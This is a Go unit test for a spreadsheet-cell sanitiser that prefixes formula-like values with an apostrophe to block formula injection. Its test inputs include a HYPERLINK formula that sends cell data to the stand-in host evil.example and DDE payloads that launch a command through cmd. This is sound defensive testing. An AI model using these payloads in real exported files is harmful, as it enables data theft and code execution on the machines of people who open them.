package trace_test

import (
	"testing"

	"github.com/leakdesk/leakdesk/trace"
)

func TestNeutraliseCell(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{`@SUM(A1:A9)`, `'@SUM(A1:A9)`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{`+1+1`, `'+1+1`},
		{`-`, `'-`},
		// Phones and negative numbers stay what they are.
		{`+33 6 12 34 56 78`, `+33 6 12 34 56 78`},
		{`+33612345678`, `+33612345678`},
		{`+44 (0)20 7946-0000`, `+44 (0)20 7946-0000`},
		{`-12.5`, `-12.5`},
		// Anything else is left alone.
		{`Zoé = Martin`, `Zoé = Martin`},
		{`zoe@mairie.example`, `zoe@mairie.example`},
		{`'quoted`, `'quoted`},
		{``, ``},
	} {
		got := trace.NeutraliseCell(c.in)
		if got != c.want {
			t.Errorf("NeutraliseCell(%q) = %q, want %q", c.in, got, c.want)
		}
		if back := trace.RestoreCell(got); back != c.in && c.in != `'quoted` {
			t.Errorf("RestoreCell(%q) = %q, want %q", got, back, c.in)
		}
	}
}
